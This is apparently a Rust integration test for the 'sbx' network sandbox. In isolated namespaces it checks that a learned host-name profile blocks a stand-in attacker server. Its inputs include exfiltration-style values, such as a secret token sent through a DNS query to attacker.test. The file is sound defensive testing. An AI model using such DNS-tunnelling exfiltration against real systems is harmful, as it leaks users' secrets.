//! Host-name rules (issue 6) without the internet: every step runs in fresh network and
//! mount namespaces made by `tests/fixtures/netns.sh` (loopback addresses 10.77.0.x, a test
//! DNS server `dns_server.py` at 10.77.0.53, HTTP servers `http_server.py` for the "registry"
//! at 10.77.0.2 and 10.77.0.4 and the "attacker" at 10.77.0.3, all on port 8080, and a private
//! /etc/resolv.conf and /etc/hosts). The workload is `fetch.py` (python3: getaddrinfo through
//! glibc, then urllib).

use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::Duration;

use crate::util::{Dir, Output, run_guarded, sbx_bin};

const REGISTRY: &str = "http://registry.test:8080/";
const HOSTS_REGISTRY: &str = "http://hosts-registry.test:8080/";

fn fixtures() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures")
}

/// One step: a fresh private network whose DNS serves `zone`, running `cmd`. Returns the
/// output and the step's directory (logs: dns.log, registry.log, new.log, attacker.log).
fn step(d: &Dir, name: &str, zone: &str, cmd: &[&str]) -> (Output, PathBuf) {
    let dir = d.join(name);
    std::fs::create_dir_all(&dir).unwrap();
    let zone_file = dir.join("zone");
    std::fs::write(&zone_file, zone).unwrap();
    let mut c = Command::new("unshare");
    c.args(unshare_flags())
        .args(["--", "sh"])
        .arg(fixtures().join("netns.sh"))
        .arg(&dir)
        .arg(&zone_file)
        .args(cmd)
        .current_dir(d.path());
    let out = run_guarded(c, Duration::from_secs(90));
    assert_ne!(
        out.code,
        Some(99),
        "the private network did not come up: {}",
        out.stderr
    );
    // The step's servers died with it (they are named by the step's directory).
    let needle = dir.to_string_lossy().into_owned();
    let left: Vec<String> = std::fs::read_dir("/proc")
        .unwrap()
        .filter_map(|e| std::fs::read(e.ok()?.path().join("cmdline")).ok())
        .map(|c| String::from_utf8_lossy(&c).replace('\0', " "))
        .filter(|c| c.contains(&needle) && c.contains("_server.py"))
        .collect();
    assert!(left.is_empty(), "servers left running: {left:?}");
    (out, dir)
}

/// `unshare` flags for a private network and mount namespace: as root `-n -m`; otherwise
/// `-r -n -m` (a user namespace where the caller is root), when the kernel allows that.
fn unshare_flags() -> &'static [&'static str] {
    if nix::unistd::geteuid().is_root() {
        &["-n", "-m"]
    } else {
        &["-r", "-n", "-m"]
    }
}

/// Can this user make the private network? Unprivileged user namespaces may be disabled
/// (sysctl kernel.unprivileged_userns_clone=0, AppArmor); then the test says so and skips.
fn private_network_possible() -> bool {
    Command::new("unshare")
        .args(unshare_flags())
        .args(["--", "ip", "link", "set", "lo", "up"])
        .status()
        .is_ok_and(|s| s.success())
}

fn log(dir: &Path, name: &str) -> String {
    std::fs::read_to_string(dir.join(name)).unwrap_or_default()
}

const ZONE: &str = "registry.test 10.77.0.2\nattacker.test 10.77.0.3\n";
/// The registry moved (a CDN answers with another address the next day).
const ZONE_MOVED: &str = "registry.test 10.77.0.4\nattacker.test 10.77.0.3\n";

#[test]
fn egress_by_host_name() {
    if !private_network_possible() {
        eprintln!(
            "SKIPPED egress_by_host_name: cannot create a private network here (needs root, or \
             unprivileged user namespaces, and `unshare` + `ip`)"
        );
        return;
    }
    let d = Dir::new();
    let fetch = fixtures().join("fetch.py");
    let fetch = fetch.to_str().unwrap();
    let sbx = sbx_bin();
    let trace = d.join("trace.bin");
    let trace = trace.to_str().unwrap();
    let profile = d.join("net.profile");
    let profile = profile.to_str().unwrap();

    // The attacks work without sbx: the attacker's server is reached by address and by
    // name, and a DNS query carrying data reaches the name server.
    let (out, dir) = step(
        &d,
        "bare",
        ZONE,
        &[
            "python3",
            fetch,
            "http://10.77.0.3:8080/",
            "http://attacker.test:8080/",
            "dns:secret-token.attacker.test",
            "rawdns:leak.attacker.test",
        ],
    );
    // (Exit 1: the exfiltrating name does not exist; the query still arrived.)
    assert_eq!(out.code, Some(1), "bare attack run: {}", out.stderr);
    assert_eq!(out.stdout.matches("hello from attacker").count(), 2);
    assert_eq!(log(&dir, "attacker.log").lines().count(), 2);
    assert!(log(&dir, "dns.log").contains("secret-token.attacker.test"));
    assert!(log(&dir, "dns.log").contains("leak.attacker.test"));

    // Record the benign workload: one name from DNS, one from /etc/hosts.
    let (out, dir) = step(
        &d,
        "record",
        ZONE,
        &[
            sbx,
            "record",
            "-o",
            trace,
            "--",
            "python3",
            fetch,
            REGISTRY,
            HOSTS_REGISTRY,
        ],
    );
    assert_eq!(out.code, Some(0), "record: {}", out.stderr);
    assert_eq!(out.stdout.matches("hello from registry").count(), 2);
    assert_eq!(log(&dir, "registry.log").lines().count(), 1);
    assert_eq!(log(&dir, "new.log").lines().count(), 1);
    let (_, events) = crate::util::read_trace(Path::new(trace));
    let resolved: Vec<String> = events
        .iter()
        .filter_map(|e| match &e.kind {
            sbx::event::EventKind::Resolved(r) => {
                Some(format!("{} {:?} {:?}", r.name, r.addrs, r.source))
            }
            _ => None,
        })
        .collect();
    assert!(
        resolved
            .iter()
            .any(|r| r.starts_with("registry.test [10.77.0.2] Dns")),
        "{resolved:?}"
    );
    assert!(
        resolved
            .iter()
            .any(|r| r.starts_with("hosts-registry.test [10.77.0.4] Hosts")),
        "{resolved:?}"
    );

    // `sbx show` links each connect to the name that produced its address.
    let out = crate::util::Sbx::new(["show", trace]).run();
    let linked = out
        .stdout
        .lines()
        .find(|l| l.contains("connect(") && l.contains("10.77.0.2:8080"))
        .unwrap_or_else(|| panic!("no connect to the registry:\n{}", out.stdout));
    assert!(linked.ends_with("[registry.test]"), "{linked}");
    let (_, json) = crate::util::show_json(Path::new(trace), &[]);
    assert!(
        json.iter()
            .any(|v| v["peer_names"] == serde_json::json!(["hosts-registry.test"])),
        "no connect linked to the /etc/hosts name"
    );

    // Learn (on the same machine: its name server is ${NAMESERVERS}).
    let (out, _) = step(&d, "learn", ZONE, &[sbx, "learn", trace, "-o", profile]);
    assert_eq!(out.code, Some(0), "learn: {}", out.stderr);
    let text = std::fs::read_to_string(profile).unwrap();
    // Peers are bound to the programs that reached them (`by`, the fetcher's exec chain).
    for want in [
        "include dns\n",
        "connect tcp registry.test:8080 by ",
        "connect tcp hosts-registry.test:8080 by ",
    ] {
        assert!(text.contains(want), "missing {want:?} in\n{text}");
    }
    assert!(
        !text.contains("10.77.0") && !text.contains("*:8080"),
        "the registry must be named, not addressed:\n{text}"
    );

    // Enforce: the benign run passes, also after the registry moved to another address.
    let enforce = |name: &str, zone: &str, mode: &str, urls: &[&str]| {
        let mut cmd = vec![
            sbx, "enforce", "--mode", mode, profile, "--", "python3", fetch,
        ];
        cmd.extend_from_slice(urls);
        step(&d, name, zone, &cmd)
    };
    let (out, dir) = enforce("benign", ZONE, "kill", &[REGISTRY, HOSTS_REGISTRY]);
    assert_eq!(out.code, Some(0), "benign enforce: {}", out.stderr);
    assert!(!out.stderr.contains("violation"), "{}", out.stderr);
    assert_eq!(log(&dir, "registry.log").lines().count(), 1);
    assert_eq!(log(&dir, "new.log").lines().count(), 1);
    let (out, dir) = enforce("moved", ZONE_MOVED, "kill", &[REGISTRY]);
    assert_eq!(out.code, Some(0), "after the move: {}", out.stderr);
    assert_eq!(
        log(&dir, "new.log").lines().count(),
        1,
        "served by the new address"
    );

    // The attacker's address on the allowed port: killed before connect, nothing received.
    let (out, dir) = enforce("by-address", ZONE, "kill", &["http://10.77.0.3:8080/"]);
    assert_eq!(out.code, Some(124), "{}", out.stderr);
    assert!(
        out.stderr.contains("connect tcp 10.77.0.3:8080"),
        "{}",
        out.stderr
    );
    assert_eq!(
        log(&dir, "attacker.log"),
        "",
        "the attacker received a request"
    );

    // The attacker's name: the query itself is the violation; it never leaves.
    let (out, dir) = enforce("by-name", ZONE, "kill", &["http://attacker.test:8080/"]);
    assert_eq!(out.code, Some(124), "{}", out.stderr);
    assert!(
        out.stderr.contains("resolve attacker.test"),
        "{}",
        out.stderr
    );
    assert_eq!(log(&dir, "attacker.log"), "");
    assert!(!log(&dir, "dns.log").contains("attacker"), "query sent");

    // Data in a query name (DNS tunnelling to a name the profile does not allow).
    let (out, dir) = enforce("exfil", ZONE, "kill", &["dns:secret-token.attacker.test"]);
    assert_eq!(out.code, Some(124), "{}", out.stderr);
    assert!(!log(&dir, "dns.log").contains("secret-token"), "query sent");

    // A query sent with sendmsg (two iovecs) on a connected socket: checked and handed to the
    // kernel from sbx's copy; an allowed name is answered, another one never leaves.
    let (out, _) = enforce("sendmsg", ZONE, "kill", &["rawdns:registry.test"]);
    assert_eq!(out.code, Some(0), "{}", out.stderr);
    assert_eq!(out.stdout.trim(), "10.77.0.2");
    let (out, dir) = enforce(
        "sendmsg-exfil",
        ZONE,
        "kill",
        &["rawdns:leak.attacker.test"],
    );
    assert_eq!(out.code, Some(124), "{}", out.stderr);
    assert!(
        out.stderr.contains("resolve leak.attacker.test"),
        "{}",
        out.stderr
    );
    assert!(!log(&dir, "dns.log").contains("leak"), "query sent");

    // Deny mode: the connect fails, the run goes on to the allowed fetch, exit 124 at the end.
    let (out, dir) = enforce("deny", ZONE, "deny", &["http://10.77.0.3:8080/", REGISTRY]);
    assert_eq!(out.code, Some(124), "{}", out.stderr);
    assert_eq!(log(&dir, "attacker.log"), "");
    assert!(
        out.stderr.contains("connect tcp 10.77.0.3:8080"),
        "{}",
        out.stderr
    );
}
